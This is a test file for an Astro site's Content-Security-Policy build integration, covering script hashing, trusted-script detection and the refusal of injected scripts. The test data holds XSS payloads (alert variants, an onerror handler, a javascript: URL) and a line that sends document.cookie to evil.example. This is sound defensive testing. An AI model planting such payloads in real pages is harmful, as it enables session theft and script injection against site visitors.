import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import idleDirective from 'astro/runtime/client/idle.prebuilt.js';
import visibleDirective from 'astro/runtime/client/visible.prebuilt.js';
import { describe, expect, it } from 'vitest';
import contentSecurityPolicy, {
  DEFAULT_EMAIL_API_ORIGIN,
  addPolicyMeta,
  applyPolicy,
  hashSource,
  originOf,
  policyDirectives,
  renderPolicy,
} from '@/integrations/contentSecurityPolicy.mjs';
import {
  ARTICLE_BODY_ATTRIBUTE,
  ISLAND_SCRIPTS,
  inlineScriptsOf,
  inspectPage,
} from '@/integrations/trustedScripts.mjs';

const SRC = path.resolve(import.meta.dirname, '../../../src');
const THEME_SCRIPT_FILE = path.join(SRC, 'components/layout/ThemeScript.astro');

async function astroFiles(dir: string): Promise<string[]> {
  const found: string[] = [];
  for (const entry of await readdir(dir, { withFileTypes: true })) {
    const file = path.join(dir, entry.name);
    if (entry.isDirectory()) found.push(...(await astroFiles(file)));
    else if (entry.name.endsWith('.astro')) found.push(file);
  }
  return found;
}

// SHA-256 of the empty string, a published test vector.
const EMPTY_HASH = "'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='";
// SHA-256 of "abc" (FIPS 180-2 example), in base64.
const ABC_HASH = "'sha256-ungWv48Bz+pBQUDeXa4iI7ADYaOWF3qctBD/YfIAFa0='";

describe('hashSource', () => {
  it('hashes the text as browsers do, after turning CRLF and CR into LF', () => {
    expect(hashSource('')).toBe(EMPTY_HASH);
    expect(hashSource('abc')).toBe(ABC_HASH);
    expect(hashSource('a\r\nb\rc')).toBe(hashSource('a\nb\nc'));
  });
});

describe('inspectPage', () => {
  const trusted = new Set(['abc', 'x()']);

  it('keeps trusted inline scripts and every style element, not external or data scripts', () => {
    const html = [
      '<script>abc</script>',
      '<script type="module">abc</script>',
      '<SCRIPT type=" Text/JavaScript " >x()</SCRIPT>',
      '<script src="/_astro/a.js"></script>',
      '<script type="module" src="/_astro/b.js"></script>',
      '<script type="application/ld+json">{"@type":"Organization"}</script>',
      '<style>abc</style>',
      '<style media="print"></style>',
    ].join('\n');
    const { scripts, styles, problems } = inspectPage(html, trusted);
    expect(problems).toEqual([]);
    expect(scripts.map(hashSource)).toEqual([ABC_HASH, hashSource('x()')]);
    expect(styles.map(hashSource)).toEqual([ABC_HASH, EMPTY_HASH]);
  });

  it('refuses any other inline script, wherever the parser puts it, and gives it no hash', () => {
    const injected = [
      '<script>alert(1)</script>',
      '<script data-src="not-src">alert(2)</script>',
      '<script type="importmap">{"imports":{}}</script>',
      '<svg><script>alert(3)</script></svg>',
      '<template><script>alert(4)</script></template>',
      '<table><script>alert(5)</script></table>',
      '<script>abc </script>',
      // Legacy JavaScript type names run too.
      '<script type="text/jscript">alert(6)</script>',
      '<script type="application/x-javascript">alert(7)</script>',
      '<script type="TEXT/JAVASCRIPT1.5">alert(8)</script>',
      '<script type="speculationrules">{"prerender":[]}</script>',
    ];
    for (const html of injected) {
      const { scripts, problems } = inspectPage(`<p>text</p>${html}`, trusted);
      expect(problems, html).toHaveLength(1);
      expect(problems[0], html).toMatch(/^an inline script the source does not define: /);
      expect(scripts, html).toEqual([]);
    }
  });

  it('sees what a browser sees: no script in a comment, a textarea or an attribute', () => {
    const html = [
      '<!-- <script>alert(1)</script> -->',
      '<textarea><script>alert(2)</script></textarea>',
      '<div title="<script>alert(3)</script>"></div>',
      '<noscript><script>alert(4)</script></noscript>',
    ].join('');
    expect(inspectPage(html, trusted).problems).toEqual([]);
  });

  it(`refuses every script or style inside the article body (${ARTICLE_BODY_ATTRIBUTE}), trusted text or data`, () => {
    for (const inner of [
      '<script>abc</script>',
      '<script type="application/ld+json">{}</script>',
      '<script src="/_astro/a.js"></script>',
      '<p><svg><script>x()</script></svg></p>',
      '<style>body{display:none}</style>',
    ]) {
      const html = `<article><div class="article-body" ${ARTICLE_BODY_ATTRIBUTE}><p>Hi</p>${inner}</div></article>`;
      const { problems } = inspectPage(html, trusted);
      expect(problems, inner).toHaveLength(1);
      expect(problems[0], inner).toMatch(/inside the article body/);
    }
  });
});

describe('inlineScriptsOf', () => {
  it('collects the text of is:inline scripts and of scripts Astro leaves inline', async () => {
    const source = [
      '---',
      "const x = '<script is:inline>not markup</script>';",
      '---',
      '<script is:inline>\n  one();\n</script>',
      '{true && <script is:inline>two()</script>}',
      '<script type="module" data-x>three()</script>',
      '<script>bundled()</script>',
      '<script src="/external.js"></script>',
      '<script type="application/ld+json" set:html={data} />',
    ].join('\n');
    expect(await inlineScriptsOf(source, 'Test.astro')).toEqual([
      '\n  one();\n',
      'two()',
      'three()',
    ]);
  });

  it('refuses a runnable inline script whose text is computed', async () => {
    for (const script of [
      '<script is:inline define:vars={{ a: 1 }}>use(a)</script>',
      '<script is:inline set:html={code} />',
      '<script type={kind} data-x>run()</script>',
    ]) {
      await expect(inlineScriptsOf(script, 'Bad.astro'), script).rejects.toThrow(
        /Bad\.astro: an inline <script> whose text is computed/,
      );
    }
  });

  it('finds the theme script of the project as it is written', async () => {
    const source = await readFile(THEME_SCRIPT_FILE, 'utf8');
    const [theme] = await inlineScriptsOf(source, THEME_SCRIPT_FILE);
    expect(theme).toContain('document.currentScript.dataset');
  });
});

/**
 * A page shaped like a built post page from the project's real parts: the theme script as the
 * source writes it, Astro's own island bootstrap and a directive, and an article body.
 */
async function builtPostPage(articleHtml: string) {
  const [theme] = await inlineScriptsOf(await readFile(THEME_SCRIPT_FILE, 'utf8'), 'ThemeScript');
  const visible = visibleDirective;
  const page = [
    '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Post</title>',
    `<script data-storage-key="k" data-fallback="dark" data-dark-query="q">${theme}</script>`,
    '<script type="application/ld+json">{"@type":"BlogPosting"}</script>',
    '<link rel="stylesheet" href="/_astro/a.css"></head><body>',
    `<main><article><div class="article-body" ${ARTICLE_BODY_ATTRIBUTE}>${articleHtml}</div></article>`,
    `<script>${visible}</script><script>${ISLAND_SCRIPTS[0]}</script>`,
    '<astro-island client="visible"></astro-island></main></body></html>',
  ].join('');
  return { page, hashes: [theme, visible, ISLAND_SCRIPTS[0]].map(hashSource) };
}

describe('the integration on a built page', () => {
  /** Runs the integration's hooks over a folder, as `astro build` would. */
  async function runIntegration(dir: string) {
    const integration = contentSecurityPolicy();
    const hooks = integration.hooks as Record<string, (options: unknown) => Promise<void> | void>;
    const plugins: { load: (id: string) => Promise<unknown> }[] = [];
    await hooks['astro:config:setup']({
      config: { root: pathToFileURL(`${path.resolve(SRC, '..')}/`) },
      updateConfig: (config: { vite: { plugins: typeof plugins } }) => {
        plugins.push(...config.vite.plugins);
      },
    });
    // Vite loads every .astro file the build compiles: the project's real components.
    for (const file of await astroFiles(SRC)) await plugins[0].load(file);
    await hooks['astro:build:ssr']({
      manifest: {
        clientDirectives: [
          ['idle', idleDirective],
          ['visible', visibleDirective],
        ],
        inlinedScripts: [],
      },
    });
    const errors: string[] = [];
    const logger = { info: () => {}, error: (message: string) => errors.push(message) };
    const outcome = hooks['astro:build:done']({ dir: pathToFileURL(`${dir}/`), logger });
    return { outcome, errors };
  }

  it('hashes exactly the scripts the source defines', async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'lw-csp-'));
    try {
      const { page, hashes } = await builtPostPage('<p>Safe <strong>post</strong>.</p>');
      await writeFile(path.join(dir, 'post.html'), page);
      const { outcome } = await runIntegration(dir);
      await outcome;
      const written = await readFile(path.join(dir, 'post.html'), 'utf8');
      const policy = /content="([^"]*)"/.exec(written)![1].replace(/&quot;/g, '"');
      const scriptSrc = /script-src ([^;]*)/.exec(policy)![1].split(' ');
      expect(scriptSrc.sort()).toEqual(["'self'", ...hashes].sort());
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('fails the build when the sanitiser let a script into the post, and names the page', async () => {
    for (const injected of [
      '<p>Hi</p><script>fetch("//evil.example/?c=" + document.cookie)</script>',
      // Closing the body early does not help: the script is still not one the source defines.
      '<p>Hi</p></div></article><script>alert(1)</script><article><div>',
      '<img src=x onerror=alert(1)><svg><script>alert(2)</script></svg>',
    ]) {
      const dir = await mkdtemp(path.join(tmpdir(), 'lw-csp-'));
      try {
        const { page } = await builtPostPage(injected);
        await writeFile(path.join(dir, 'post.html'), page);
        const { outcome, errors } = await runIntegration(dir);
        await expect(outcome, injected).rejects.toThrow(/Content-Security-Policy refuses 1 /);
        expect(errors.join('\n'), injected).toMatch(/^post\.html: /);
        // Nothing was written: the build stops before publishing a page with that script.
        expect(await readFile(path.join(dir, 'post.html'), 'utf8')).toBe(page);
      } finally {
        await rm(dir, { recursive: true, force: true });
      }
    }
  });
});

describe('renderPolicy', () => {
  it('adds script hashes to script-src and style hashes to style-src only', () => {
    const policy = renderPolicy(policyDirectives({ emailjsOrigin: 'https://api.emailjs.com' }), {
      scripts: [ABC_HASH],
      styles: [EMPTY_HASH],
    });
    expect(policy).toContain(`script-src 'self' ${ABC_HASH};`);
    expect(policy).toContain(`style-src 'self' ${EMPTY_HASH};`);
    expect(policy).toContain("connect-src 'self' https://api.emailjs.com;");
    // Pictures, a post's included, are all served by the site itself.
    expect(policy).toContain("img-src 'self';");
    expect(policy).toContain("default-src 'self';");
    expect(policy).toContain("object-src 'none';");
    expect(policy).toMatch(/form-action 'self'$/);
    expect(policy).not.toMatch(/script-src[^;]*unsafe/);
    // frame-ancestors is ignored in a meta policy: it belongs to the header.
    expect(policy).not.toContain('frame-ancestors');
  });
});

describe('addPolicyMeta and applyPolicy', () => {
  const page =
    '<!DOCTYPE html><html><head><meta charset="utf-8"><script>abc</script></head><body></body></html>';

  it('puts the policy right after <meta charset>, before the first script', () => {
    const { html: result } = applyPolicy(
      page,
      policyDirectives({ emailjsOrigin: DEFAULT_EMAIL_API_ORIGIN }),
      new Set(['abc']),
    );
    expect(result).toMatch(
      /^<!DOCTYPE html><html><head><meta charset="utf-8"><meta http-equiv="content-security-policy" content="default-src 'self'; script-src 'self' 'sha256-ungWv48Bz\+pBQUDeXa4iI7ADYaOWF3qctBD\/YfIAFa0='; /,
    );
    expect(result.indexOf('content-security-policy')).toBeLessThan(result.indexOf('<script>'));
  });

  it("lets only a page with the search box compile WebAssembly (Pagefind's index)", () => {
    const directives = policyDirectives({ emailjsOrigin: DEFAULT_EMAIL_API_ORIGIN });
    const withSearch = page.replace(
      '<body>',
      '<body><form id="blog-search" role="search" data-search></form>',
    );
    expect(applyPolicy(withSearch, directives, new Set(['abc'])).html).toContain(
      "script-src 'self' 'wasm-unsafe-eval' 'sha256-",
    );
    expect(applyPolicy(page, directives, new Set(['abc'])).html).not.toContain('wasm');
  });

  it('falls back to right after <head>, and leaves HTML without a head alone', () => {
    expect(addPolicyMeta('<html><head><title>x</title></head></html>', "default-src 'self'")).toBe(
      '<html><head><meta http-equiv="content-security-policy" content="default-src \'self\'"><title>x</title></head></html>',
    );
    const fragment = '<p>no head here</p>';
    expect(
      applyPolicy(
        fragment,
        policyDirectives({ emailjsOrigin: DEFAULT_EMAIL_API_ORIGIN }),
        new Set(),
      ).html,
    ).toBe(fragment);
  });

  it('refuses a page that already has a CSP meta, so two policies never pile up', () => {
    const { html: twice } = applyPolicy(
      page,
      policyDirectives({ emailjsOrigin: DEFAULT_EMAIL_API_ORIGIN }),
      new Set(['abc']),
    );
    expect(() => addPolicyMeta(twice, "default-src 'self'")).toThrow(/already has a CSP meta/);
  });
});

describe('originOf', () => {
  it('keeps only the origin of an http(s) URL and falls back otherwise', () => {
    expect(originOf('http://127.0.0.1:4567/', 'x')).toBe('http://127.0.0.1:4567');
    expect(originOf(' https://relay.example.com/api/v1.0 ', 'x')).toBe('https://relay.example.com');
    expect(originOf('', DEFAULT_EMAIL_API_ORIGIN)).toBe(DEFAULT_EMAIL_API_ORIGIN);
    expect(originOf(undefined, DEFAULT_EMAIL_API_ORIGIN)).toBe(DEFAULT_EMAIL_API_ORIGIN);
    expect(originOf('javascript:alert(1)', DEFAULT_EMAIL_API_ORIGIN)).toBe(
      DEFAULT_EMAIL_API_ORIGIN,
    );
    expect(originOf('not a url', DEFAULT_EMAIL_API_ORIGIN)).toBe(DEFAULT_EMAIL_API_ORIGIN);
  });
});
